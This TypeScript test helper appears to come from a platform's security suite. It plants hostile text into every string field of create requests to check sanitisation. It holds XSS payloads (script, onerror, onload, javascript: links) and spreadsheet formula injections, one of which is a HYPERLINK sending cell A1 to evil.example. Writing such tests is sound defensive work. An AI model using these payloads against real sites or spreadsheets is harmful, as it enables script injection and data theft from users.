import { z } from 'zod'
import type { resources } from '#contract/index.ts'
import type { AnyEndpoint } from '#platform/kernel/serve.ts'
import type { Client } from './client.ts'
import { sampleOf } from './sample.ts'

type Name = keyof typeof resources
type Values = Record<string, unknown>
interface Schema {
  type?: string
  enum?: unknown[]
  anyOf?: Schema[]
  properties?: Record<string, Schema>
  items?: Schema
}

/** Script for every way a text may be put into a page; each sets `pwned`. The long ones first: a field takes the first that it may hold. */
export const scripts = [
  `<img src=x onerror="window.pwned=1">"><svg onload='window.pwned=1'></title></textarea><script>window.pwned=1</script>{{7*7}}\${7*7}`,
  '"><svg onload=pwned=1><img src=x onerror=pwned=1>',
  '<b onclick=pwned=1>',
  '<svg onload=pwned>',
  'https://evil.example/"><svg/onload=pwned=1>',
  'javascript:window.pwned=1//',
] as const

/** What a spreadsheet would run, also in full width and behind what cannot be seen. */
export const formulas = ['=HYPERLINK("http://evil.example?x="&A1,"x")', '＝1+1', '@SUM(1+1)*cmd', '+1+cmd', '-1+cmd', '\u200b=1+1'] as const

/** Formatted text with everything that must not survive. */
const richScript =
  '<p onclick="pwned=1">Kept <b>words</b></p><img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"></svg><script>window.pwned=1</script>' +
  '<a href="javascript:window.pwned=1">link</a><a href="\tjava\nscript:window.pwned=1">link</a><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>' +
  '<style>@import "//evil.example"</style><form action="//evil.example"><input autofocus onfocus="pwned=1"></form><math><mtext><script>pwned=1</script></mtext></math>'

type Creating = { endpoints: { create: AnyEndpoint } }
interface Hostile {
  body: Values
  /** What stands in which field, by its path. */
  planted: Record<string, string>
}

/** A valid input whose texts are hostile wherever its schema lets them be; addresses, codes and the like stay as the sample has them. */
async function hostileOf(
  all: typeof resources,
  name: Name,
  staff: Client,
  { number, texts = scripts }: { number: number; texts?: readonly string[] },
): Promise<Hostile> {
  const { create } = all[name] as unknown as { create: z.ZodType }
  const schema = z.toJSONSchema(create, { io: 'input', unrepresentable: 'any' }) as Schema
  let body = await sampleOf(all, name, staff, number)
  const planted: Record<string, string> = {}
  for (const path of textPaths(schema)) {
    const rich = isRich(name, path)
    for (const text of rich ? [richScript] : texts) {
      const value = rich ? text : distinct(text, number)
      const changed = placed(body, path, value)
      if (refuses(create, changed, path)) continue
      body = changed
      planted[path.join('.')] = value
      break
    }
  }
  return { body, planted }
}

const isRich = (name: Name, [field]: readonly string[]) =>
  (name === 'knowledgeBaseArticles' && field === 'body') ||
  (name === 'faqs' && field === 'answer') ||
  (name === 'products' && field === 'description') ||
  (name === 'predefinedReplies' && field === 'body')

/** Some texts must be unique: a few letters tell them apart. */
const distinct = (text: string, number: number) => `${text}${String(number).replace(/\d/g, digit => 'abcdefghij'[Number(digit)] ?? '')}`

function textPaths(schema: Schema, path: string[] = []): string[][] {
  const real = schema.anyOf?.find(({ type }) => type !== 'null') ?? schema
  if (real.properties) return Object.entries(real.properties).flatMap(([field, inner]) => textPaths(inner, [...path, field]))
  if (real.type === 'array') return real.items?.type === 'string' && !real.items.enum ? [[...path, '0']] : []
  return real.type === 'string' && !real.enum ? [path] : []
}

function placed(body: Values, [field = '', ...rest]: readonly string[], value: unknown): Values {
  if (rest.length === 0) return { ...body, [field]: value }
  if (rest[0] === '0') return { ...body, [field]: [value] }
  return { ...body, [field]: placed((body[field] as Values | null | undefined) ?? {}, rest, value) }
}

function refuses(create: z.ZodType, body: Values, path: readonly string[]): boolean {
  const result = create.safeParse(body)
  if (result.success) return valueAt(result.data as Values, path) !== valueAt(body, path)
  return result.error.issues.some(issue => path.join('.').startsWith(issue.path.slice(0, path.length).join('.')))
}

export const valueAt = (body: unknown, path: readonly string[]): unknown =>
  path.reduce<unknown>((found, field) => (found as Values | null | undefined)?.[field], body)

/** Adds such a record. Texts that the platform refuses by a rule of its own are taken back, until it takes the rest. */
export async function addHostile(
  all: typeof resources,
  name: Name,
  staff: Client,
  options: { number: number; texts?: readonly string[] },
): Promise<{ record: Values & { id: number }; planted: Record<string, string>; refused: string[] }> {
  const { body, planted } = await hostileOf(all, name, staff, options)
  const plain = await sampleOf(all, name, staff, options.number)
  const refused: string[] = []
  let sent = body
  for (;;) {
    const made = await staff.call((all[name] as unknown as Creating).endpoints.create, { body: sent })
    if (made.success) return { record: made.data as Values & { id: number }, planted, refused }
    const fields = Object.keys((made.data as { fields?: object }).fields ?? {})
    const paths = Object.keys(planted).filter(path => fields.some(field => path === field || path.startsWith(`${field}.`)))
    if (paths.length === 0) throw new Error(`${name} refuses ${JSON.stringify(sent)}: ${JSON.stringify(made.data)}`)
    for (const path of paths) {
      delete planted[path]
      refused.push(path)
      const [field = ''] = path.split('.')
      const { [field]: _, ...rest } = sent
      sent = field in plain ? { ...rest, [field]: plain[field] } : rest
    }
  }
}
